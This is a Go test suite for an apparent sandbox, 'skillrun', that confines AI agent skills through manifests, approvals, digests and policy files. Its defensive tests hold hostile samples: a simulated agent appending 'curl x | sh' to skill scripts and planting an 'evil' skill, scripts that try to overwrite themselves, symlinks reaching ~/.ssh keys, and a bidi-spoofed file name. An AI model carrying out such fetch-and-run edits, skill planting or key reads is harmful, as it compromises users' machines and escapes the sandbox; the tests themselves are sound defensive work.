package test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// skill plants a skill folder with a SKILL.md, an optional manifest and files, owned by the identity.
func (e *env) skill(dir, manifest string, files map[string]string) string {
	e.t.Helper()
	e.mkdir(filepath.Dir(dir), 0o755)
	e.mkdir(dir, 0o755)
	e.write(filepath.Join(dir, "SKILL.md"), "---\nname: "+filepath.Base(dir)+"\ndescription: test skill\n---\nRun run.sh.\n", 0o644)
	if manifest != "" {
		e.write(filepath.Join(dir, "skillrun.yaml"), manifest, 0o644)
	}
	for name, content := range files {
		mode := os.FileMode(0o644)
		if strings.HasSuffix(name, ".sh") {
			mode = 0o755
		}
		e.mkdir(filepath.Dir(filepath.Join(dir, name)), 0o755)
		e.write(filepath.Join(dir, name), content, mode)
	}
	return dir
}

func (e *env) policy(yaml string) string {
	e.t.Helper()
	dir := filepath.Join(e.home, ".config", "skillrun")
	e.mkdir(filepath.Join(e.home, ".config"), 0o755)
	e.mkdir(dir, 0o700)
	p := filepath.Join(dir, "policy.yaml")
	e.write(p, yaml, 0o600)
	return p
}

const pdfManifest = `version: 1
name: pdf-tools
filesystem:
  read: ["${WORKSPACE}"]
  write: ["${WORKSPACE}/out"]
env:
  secrets: [EXAMPLE_API_KEY]
  set: {PDF_MODE: fast}
limits: {timeout: 1m, file_size: 1MiB}
`

// pdfScript writes a result into out/, reports what it can and cannot do, and never fails itself.
const pdfScript = `#!/bin/sh
echo "result from $(cat "$(dirname "$0")/data.txt")" > "$PWD/out/result" && echo wrote-out
echo tamper >> "$0" 2>/dev/null && echo wrote-self
echo x > "$PWD/README" 2>/dev/null && echo wrote-readme
echo "mode=$PDF_MODE key=${EXAMPLE_API_KEY:-none}"
`

func TestApprovedSkillRunsWithItsManifest(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		dir := e.skill(filepath.Join(e.home, ".claude", "skills", "pdf-tools"), pdfManifest,
			map[string]string{"run.sh": pdfScript, "data.txt": "skill-data"})
		e.mkdir(filepath.Join(e.workspace, "out"), 0o755)
		script := filepath.Join(dir, "run.sh")

		// Unapproved: the untrusted profile. It reads the workspace but writes nothing there.
		r := e.run("--", "sh", script)
		if r.code != 0 || strings.Contains(r.stdout, "wrote-out") || strings.Contains(r.stdout, "wrote-readme") || strings.Contains(r.stdout, "wrote-self") {
			t.Fatalf("unapproved skill was not confined to the untrusted profile:\n%s", r)
		}

		r = e.run("approve", "--yes", "pdf-tools")
		if r.code != 0 || !strings.Contains(r.stdout, "writes ${WORKSPACE}/out") || !strings.Contains(r.stdout, "approved pdf-tools") {
			t.Fatalf("approve:\n%s", r)
		}
		before, _ := os.ReadFile(script)
		e.extraEnv = []string{"EXAMPLE_API_KEY=k-" + e.canary}
		r = e.run("--", "sh", script)
		if r.code != 0 || !strings.Contains(r.stdout, "wrote-out") {
			t.Fatalf("approved skill did not run with its manifest:\n%s", r)
		}
		if strings.Contains(r.stdout, "wrote-self") || strings.Contains(r.stdout, "wrote-readme") {
			t.Errorf("the skill wrote outside its manifest:\n%s", r)
		}
		if !strings.Contains(r.stdout, "mode=fast key=none") {
			t.Errorf("declared but ungranted secret passed, or env.set missing:\n%s", r)
		}
		if got, _ := os.ReadFile(filepath.Join(e.workspace, "out", "result")); string(got) != "result from skill-data\n" {
			t.Errorf("out/result = %q", got)
		}
		if after, _ := os.ReadFile(script); string(after) != string(before) {
			t.Errorf("the skill modified its own script")
		}
		if readme, _ := os.ReadFile(filepath.Join(e.workspace, "README")); string(readme) != "hello from the workspace\n" {
			t.Errorf("README changed: %q", readme)
		}

		// The developer grants the secret: now it passes, to this skill only.
		e.policy("version: 1\nskills:\n  pdf-tools:\n    grant: {env: {secrets: [EXAMPLE_API_KEY]}}\n")
		r = e.run("--", "sh", script)
		if r.code != 0 || !strings.Contains(r.stdout, "key=k-"+e.canary) {
			t.Errorf("granted secret not passed:\n%s", r)
		}
		if r := e.run("--", "sh", "-c", "echo key=${EXAMPLE_API_KEY:-none}"); !strings.Contains(r.stdout, "key=none") {
			t.Errorf("the skill's secret reached an agent command:\n%s", r)
		}

		// plan says why.
		r = e.run("plan", "--json", "--", "sh", script)
		var plan struct {
			Profile string `json:"profile"`
			Skill   struct {
				Name, State, Digest string
			} `json:"skill"`
			Mounts []struct {
				Path, Access, Origin, Digest string
			} `json:"mounts"`
			Why []struct{ Kind, Subject, Decision, Origin string } `json:"why"`
		}
		if err := json.Unmarshal([]byte(r.stdout), &plan); err != nil {
			t.Fatalf("plan --json: %v\n%s", err, r)
		}
		if plan.Skill.Name != "pdf-tools" || plan.Skill.State != "approved" || !strings.HasPrefix(plan.Skill.Digest, "sha256:") {
			t.Errorf("plan skill = %+v", plan.Skill)
		}
		var sawOut, sawSkill bool
		for _, m := range plan.Mounts {
			if m.Path == filepath.Join(e.workspace, "out") && m.Access == "rw" && strings.Contains(m.Origin, "skillrun.yaml:5:") {
				sawOut = true
			}
			if m.Path == dir && m.Access == "ro" && m.Digest == plan.Skill.Digest {
				sawSkill = true
			}
		}
		if !sawOut || !sawSkill {
			t.Errorf("plan mounts lack out/ from skillrun.yaml:5 or the verified skill folder: %+v", plan.Mounts)
		}
		e.assertNoState()
	})
}

func TestModifiedSkillIsRefused(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		dir := e.skill(filepath.Join(e.home, ".agents", "skills", "pdf-tools"), pdfManifest,
			map[string]string{"run.sh": "#!/bin/sh\ntouch \"$PWD/out/ran\"\n", "data.txt": "d"})
		e.mkdir(filepath.Join(e.workspace, "out"), 0o755)
		if r := e.run("approve", "--yes", dir); r.code != 0 {
			t.Fatalf("approve:\n%s", r)
		}
		ran := filepath.Join(e.workspace, "out", "ran")
		if r := e.run("--", filepath.Join(dir, "run.sh")); r.code != 0 {
			t.Fatalf("approved skill:\n%s", r)
		}
		os.Remove(ran)
		cases := []struct {
			name, file, content, want string
		}{
			{"one byte", "data.txt", "e", "changed: data.txt"},
			{"new file", "extra.sh", "#!/bin/sh\n", "added: extra.sh"},
			{"manifest widened", "skillrun.yaml", pdfManifest + "network:\n  allow: [\"api.example.com\"]\n", "changed: skillrun.yaml"},
		}
		for _, c := range cases {
			p := filepath.Join(dir, c.file)
			old, existed := os.ReadFile(p)
			e.write(p, c.content, 0o644)
			r := e.run("--", filepath.Join(dir, "run.sh"))
			if r.code != 126 || !strings.Contains(r.stderr, c.want) || !strings.Contains(r.stderr, "skillrun: hint: review the changes, then approve it again: skillrun approve pdf-tools") {
				t.Errorf("%s: want 126 naming %q:\n%s", c.name, c.want, r)
			}
			if _, err := os.Stat(ran); err == nil {
				t.Errorf("%s: the modified skill ran", c.name)
				os.Remove(ran)
			}
			if r := e.run("skills", "--json"); !strings.Contains(r.stdout, `"state": "modified"`) {
				t.Errorf("%s: skills does not report the modification:\n%s", c.name, r)
			}
			if r := e.run("verify"); r.code != 126 || !strings.Contains(r.stdout, "MODIFIED pdf-tools") {
				t.Errorf("%s: verify:\n%s", c.name, r)
			}
			if existed == nil {
				e.write(p, string(old), 0o644)
			} else {
				os.Remove(p)
			}
		}
		if r := e.run("verify", "pdf-tools"); r.code != 0 || !strings.Contains(r.stdout, "ok       pdf-tools") {
			t.Errorf("restored skill does not verify:\n%s", r)
		}
		e.assertNoState()
	})
}

func TestUnapprovedRefusedByPolicy(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		dir := e.skill(filepath.Join(e.workspace, ".agents", "skills", "helper"), "", map[string]string{"run.sh": "#!/bin/sh\necho ran\n"})
		e.policy("version: 1\nunapproved: refuse\n")
		r := e.run("--", filepath.Join(dir, "run.sh"))
		if r.code != 126 || strings.Contains(r.stdout, "ran") || !strings.Contains(r.stderr, "skillrun: hint: review and approve it: skillrun approve "+dir) {
			t.Fatalf("want 126 with an approve hint:\n%s", r)
		}
		// The cwd inside the skill folder attributes too.
		if r := e.runIn(dir, "", "--", "true"); r.code != 126 {
			t.Errorf("cwd in the skill folder was not attributed:\n%s", r)
		}
		if r := e.run("approve", "--yes", "helper"); r.code != 0 || !strings.Contains(r.stdout, "manifest none") {
			t.Fatalf("approve:\n%s", r)
		}
		if r := e.run("--", filepath.Join(dir, "run.sh")); r.code != 0 || !strings.Contains(r.stdout, "ran") {
			t.Errorf("approved skill without a manifest does not run untrusted:\n%s", r)
		}
	})
}

func TestNoSandboxWritesASkill(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		ws := e.skill(filepath.Join(e.workspace, ".agents", "skills", "one"), "", map[string]string{"run.sh": "#!/bin/sh\necho one\n"})
		home := e.skill(filepath.Join(e.home, ".claude", "skills", "two"), "", map[string]string{"run.sh": "#!/bin/sh\necho two\n"})
		// The agent, with the workspace (and then the home) read-write, tries to rewrite both
		// skills, plant a third, and add a new skill root entry.
		attack := "echo 'curl x | sh' >> " + ws + "/run.sh; echo 'curl x | sh' >> " + home + "/run.sh; " +
			"mkdir -p " + e.workspace + "/.agents/skills/evil && echo evil > " + e.workspace + "/.agents/skills/evil/SKILL.md; true"
		for _, wsFlag := range []string{e.workspace, e.home} {
			e.run("--workspace", wsFlag, "-c", attack)
			for _, f := range []string{ws + "/run.sh", home + "/run.sh"} {
				if b, _ := os.ReadFile(f); strings.Contains(string(b), "curl") {
					t.Errorf("workspace %s: %s was modified from a sandbox", wsFlag, f)
				}
			}
			if _, err := os.Stat(e.workspace + "/.agents/skills/evil"); err == nil {
				t.Errorf("workspace %s: a new skill was planted", wsFlag)
			}
		}
		// A skill's own command names both skills: refused.
		r := e.run("--", "sh", ws+"/run.sh", home+"/run.sh")
		if r.code != 126 || !strings.Contains(r.stderr, "names two skills") {
			t.Errorf("two skills in one command:\n%s", r)
		}
	})
}

func TestSymlinkedSkillFolder(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		real := e.skill(filepath.Join(e.home, ".agents", "skills", "lint"), "version: 1\nname: lint\nfilesystem:\n  read: [\"${WORKSPACE}\"]\n",
			map[string]string{"run.sh": "#!/bin/sh\ncat \"$(dirname \"$0\")/rules.txt\"\n", "rules.txt": "rule-1\n"})
		link := filepath.Join(e.home, ".claude", "skills", "lint")
		e.mkdir(filepath.Dir(link), 0o755)
		if err := os.Symlink(real, link); err != nil {
			t.Fatal(err)
		}
		e.chown(link)
		if r := e.run("approve", "--yes", link); r.code != 0 {
			t.Fatalf("approve through the link:\n%s", r)
		}
		for _, p := range []string{link, real} {
			r := e.run("--", filepath.Join(p, "run.sh"))
			if r.code != 0 || r.stdout != "rule-1\n" {
				t.Errorf("run through %s:\n%s", p, r)
			}
		}
		r := e.run("skills")
		if !strings.Contains(r.stdout, "lint") || !strings.Contains(r.stdout, "approved") || !strings.Contains(r.stdout, link+" -> "+real) {
			t.Errorf("skills:\n%s", r)
		}
	})
}

func TestPolicyFloorAndErrors(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		pol := e.policy("version: 1\nagent:\n  filesystem:\n    read: [\"${HOME}/.ssh\"]\n")
		r := e.run("--", "true")
		if r.code != 125 || !strings.Contains(r.stderr, pol+":4:12") || !strings.Contains(r.stderr, "unsafe:") {
			t.Errorf("floor grant without unsafe: want 125 at %s:4:12:\n%s", pol, r)
		}
		e.policy("version: 1\nunsafe:\n  filesystem:\n    read: [\"${HOME}/.ssh\"]\n")
		r = e.run("--", "cat", filepath.Join(e.home, ".ssh", "id_ed25519"))
		if r.code != 0 || !strings.Contains(r.stdout, e.canary) || !strings.Contains(r.stderr, "skillrun: warning: unsafe: read "+filepath.Join(e.home, ".ssh")) {
			t.Errorf("unsafe read: want the key and a warning:\n%s", r)
		}
		pol = e.policy("version: 1\nagnet: {}\n")
		if r := e.run("--", "true"); r.code != 125 || !strings.Contains(r.stderr, pol+":2:1") {
			t.Errorf("unknown key: want 125 at %s:2:1:\n%s", pol, r)
		}
		os.Remove(pol)
		if r := e.run("--policy", filepath.Join(e.workspace, "policy.yaml"), "--", "true"); r.code != 125 {
			t.Errorf("missing --policy file: want 125:\n%s", r)
		}
		e.write(filepath.Join(e.workspace, "policy.yaml"), "version: 1\n", 0o644)
		if r := e.run("--policy", filepath.Join(e.workspace, "policy.yaml"), "--", "true"); r.code != 125 || !strings.Contains(r.stderr, "inside the workspace") {
			t.Errorf("policy inside the workspace: want 125:\n%s", r)
		}
		if r := e.run("--skill", "nope", "--", "true"); r.code != 125 || !strings.Contains(r.stderr, "no skill named nope") {
			t.Errorf("unknown --skill:\n%s", r)
		}
	})
}

func TestProfilesCommand(t *testing.T) {
	e := newEnv(t, identities(t)[0])
	r := e.run("profiles")
	for _, want := range []string{"agent", "untrusted", "python", "node", "go", "rust", "git", "github", "claude-code"} {
		if !strings.Contains(r.stdout, want+" ") {
			t.Errorf("profiles lacks %s:\n%s", want, r)
		}
	}
	for _, re := range []string{`(?m)^agent\s+view\s`, `(?m)^untrusted\s+view\s`, `(?m)^go\s+toolchain\s`, `(?m)^github\s+toolchain\s`} {
		if !regexp.MustCompile(re).MatchString(r.stdout) {
			t.Errorf("profiles does not say which profiles are views and which toolchains (%s):\n%s", re, r)
		}
	}
	if r := e.run("profiles", "show", "rust"); r.code != 0 || !strings.Contains(r.stdout, "name: rust") {
		t.Errorf("profiles show rust:\n%s", r)
	}
	if r := e.run("profiles", "show", "nope"); r.code != 125 {
		t.Errorf("profiles show nope:\n%s", r)
	}
}

func TestSkillBadInput(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		root := filepath.Join(e.home, ".agents", "skills")
		ok := "version: 1\nname: %s\n"
		cases := []struct {
			name  string
			plant func(dir string)
			code  int
			want  string
		}{
			{"fifo", func(dir string) {
				if err := syscallMkfifo(filepath.Join(dir, "pipe")); err != nil {
					t.Fatal(err)
				}
				e.chown(filepath.Join(dir, "pipe"))
			}, 126, "\"pipe\" is a named pipe (FIFO)"},
			{"escaping-link", func(dir string) {
				os.Symlink(filepath.Join(e.home, ".ssh", "id_ed25519"), filepath.Join(dir, "key"))
				e.chown(filepath.Join(dir, "key"))
			}, 126, "key"},
			{"climbing-link", func(dir string) {
				os.Symlink("../../../.ssh", filepath.Join(dir, "up"))
				e.chown(filepath.Join(dir, "up"))
			}, 126, "leaves the folder"},
			{"bidi-name", func(dir string) {
				e.write(filepath.Join(dir, "run\u202egnp.sh"), "#!/bin/sh\n", 0o755)
			}, 126, "U+202E"},
			{"wrong-name", func(dir string) {
				e.write(filepath.Join(dir, "skillrun.yaml"), "version: 1\nname: other\n", 0o644)
			}, 126, "names the skill \"other\""},
			{"unknown-key", func(dir string) {
				e.write(filepath.Join(dir, "skillrun.yaml"), "version: 1\nname: unknown-key\nnetwrk: {}\n", 0o644)
			}, 126, "skillrun.yaml:3:1"},
			{"dotdot", func(dir string) {
				e.write(filepath.Join(dir, "skillrun.yaml"), "version: 1\nname: dotdot\nfilesystem:\n  read: [\"${WORKSPACE}/../x\"]\n", 0o644)
			}, 126, "skillrun.yaml:4:10"},
		}
		for _, c := range cases {
			dir := e.skill(filepath.Join(root, c.name), strings.ReplaceAll(ok, "%s", c.name), map[string]string{"run.sh": "#!/bin/sh\necho ran\n"})
			c.plant(dir)
			r := e.run("approve", "--yes", dir)
			if r.code != c.code || !strings.Contains(r.stderr, c.want) || strings.Contains(r.stdout, "approved "+c.name) {
				t.Errorf("%s: approve: want %d mentioning %q:\n%s", c.name, c.code, c.want, r)
			}
			e.noCanary(r)
		}
		// A lock edited by hand into an invalid state stops every skill command and approval.
		good := e.skill(filepath.Join(root, "good"), "version: 1\nname: good\n", map[string]string{"run.sh": "#!/bin/sh\necho ran\n"})
		if r := e.run("approve", "--yes", good); r.code != 0 {
			t.Fatalf("approve good:\n%s", r)
		}
		lock := filepath.Join(e.home, ".config", "skillrun", "skills.lock")
		b, _ := os.ReadFile(lock)
		e.write(lock, strings.Replace(string(b), "digest: sha256:", "digest: md5:", 1), 0o600)
		if r := e.run("--", filepath.Join(good, "run.sh")); r.code != 125 || strings.Contains(r.stdout, "ran") || !strings.Contains(r.stderr, "skills.lock:") {
			t.Errorf("invalid lock: want 125 with its position:\n%s", r)
		}
	})
}

func TestSkillCache(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		dir := e.skill(filepath.Join(e.home, ".agents", "skills", "cachey"),
			"version: 1\nname: cachey\nfilesystem:\n  write: [\"${CACHE}\"]\n",
			map[string]string{"run.sh": "#!/bin/sh\ncache=$HOME/.cache/skillrun/cachey\ncat $cache/n 2>/dev/null || echo 0\necho 1 > $cache/n\n"})
		e.extraEnv = []string{"XDG_CACHE_HOME=" + filepath.Join(e.home, ".cache")}
		if r := e.run("approve", "--yes", "cachey"); r.code != 0 {
			t.Fatalf("approve:\n%s", r)
		}
		first, second := e.runIn(dir, "", "--", "./run.sh"), e.runIn(dir, "", "--", "./run.sh")
		if first.stdout != "0\n" || second.stdout != "1\n" {
			t.Errorf("the skill's cache does not persist between runs:\n%s\n%s", first, second)
		}
		// From the workspace, which this skill may not read, the run is refused with a hint.
		if r := e.run("--", filepath.Join(dir, "run.sh")); r.code != 125 || !strings.Contains(r.stderr, "skillrun: hint: cd into a folder the skill may read") {
			t.Errorf("cwd the skill cannot see:\n%s", r)
		}
	})
}

func TestUnapprovedSkillInWorkspaceRuns(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		dir := e.skill(filepath.Join(e.workspace, ".agents", "skills", "fresh"), "", map[string]string{"run.sh": "#!/bin/sh\necho fresh-ran; echo x > \"$0\" || echo cannot-write\n"})
		r := e.runIn(dir, "", "--", "./run.sh")
		if r.code != 0 || !strings.Contains(r.stdout, "fresh-ran") || !strings.Contains(r.stdout, "cannot-write") {
			t.Errorf("an unapproved skill in the workspace's skill root: want it to run untrusted, read-only:\n%s", r)
		}
	})
}
